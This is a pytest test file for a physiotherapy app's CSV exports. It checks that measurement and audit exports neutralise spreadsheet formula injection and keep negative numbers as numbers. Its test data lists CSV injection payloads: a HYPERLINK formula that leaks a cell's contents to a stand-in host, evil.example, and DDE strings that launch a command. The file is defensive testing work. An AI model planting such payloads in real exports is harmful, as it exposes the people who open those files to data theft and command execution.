"""Bad input, CSV: no cell the program writes can start a spreadsheet formula (OWASP CSV
injection), in the measurements export and the audit export alike; numbers stay numbers."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest

from mobileathlete_desktop.services import assessments, audit, clients
from mobileathlete_desktop.services.audit import record_event
from mobileathlete_desktop.services.context import ServiceContext
from mobileathlete_desktop.services.exports import EXPORT_COLUMNS, export_csv
from mobileathlete_desktop.support.csv_cells import safe_csv_cell

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_cell_is_written_as_text(text: str) -> None:
    assert safe_csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Hip flexion", "", "a=b", "heel lifts -2", "'quoted"])
def test_ordinary_text_is_untouched(text: str) -> None:
    assert safe_csv_cell(text) == text


@pytest.mark.parametrize("number", ["-5", "-12.5", "+3", "1e-05", "-1.5e+20", "0"])
def test_a_number_in_a_numeric_column_stays_a_number(number: str) -> None:
    assert safe_csv_cell(number, numeric=True) == number
    # In a text column the same characters are text (a note "-5" is not a number).
    assert safe_csv_cell(number) in (number, "'" + number)


def test_a_formula_in_a_numeric_column_is_still_neutralised() -> None:
    assert safe_csv_cell("-1+cmd|x", numeric=True) == "'-1+cmd|x"


def test_measurements_export_neutralises_every_text_cell(
    ctx: ServiceContext, admin_ctx: ServiceContext, tmp_path: Path
) -> None:
    made = clients.create_client(
        ctx, clients.ClientInput("T-1", "Testa", "Runnerton", date_of_birth=date(1990, 1, 1))
    )
    visit = assessments.create_assessment(ctx, made.id, date(2025, 3, 1), therapist="X")
    assessments.set_value(ctx, visit.id, "hip.flexion", "left", "active", 112, note=FORMULAS[0])
    assessments.set_value(ctx, visit.id, "wblt.distance", "right", "none", 9, note=FORMULAS[1])
    out = tmp_path / "values.csv"
    export_csv(admin_ctx, out)
    rows = _rows(out)
    assert tuple(rows[0]) == EXPORT_COLUMNS
    notes = {r["measure"]: r["note"] for r in rows}
    assert notes == {"hip.flexion": "'" + FORMULAS[0], "wblt.distance": "'" + FORMULAS[1]}
    for row in rows:
        for cell in row.values():
            assert (
                not cell or cell[0] not in "=+-@\t\r" or cell.lstrip("-").replace(".", "").isdigit()
            )
    assert {r["value"] for r in rows} == {"112", "9"}


def test_a_negative_value_is_exported_as_a_number(
    ctx: ServiceContext, admin_ctx: ServiceContext, tmp_path: Path
) -> None:
    made = clients.create_client(ctx, clients.ClientInput("T-2", "Neg", "Ative"))
    visit = assessments.create_assessment(ctx, made.id, date(2025, 3, 1), therapist="X")
    # A knee that stops 5° short of straight is recorded as -5°.
    assessments.set_value(ctx, visit.id, "knee.extension", "left", "passive", -5.0)
    out = tmp_path / "neg.csv"
    export_csv(admin_ctx, out)
    assert [r["value"] for r in _rows(out)] == ["-5"]


def test_audit_export_neutralises_every_cell(admin_ctx: ServiceContext, tmp_path: Path) -> None:
    with admin_ctx.db.session() as session:
        for text in FORMULAS[:4]:
            record_event(session, admin_ctx.actor, "data.export", entity="file", entity_id=text)
    out = tmp_path / "audit.csv"
    audit.export_csv(admin_ctx, out)
    rows = _rows(out)
    assert list(rows[0]) == list(audit.CSV_COLUMNS)
    assert [r["entity_id"] for r in rows[:4]] == ["'" + t for t in FORMULAS[:4]]
    for row in rows:
        for name, cell in row.items():
            assert not cell or cell[0] not in "=+-@\t\r", (name, cell)
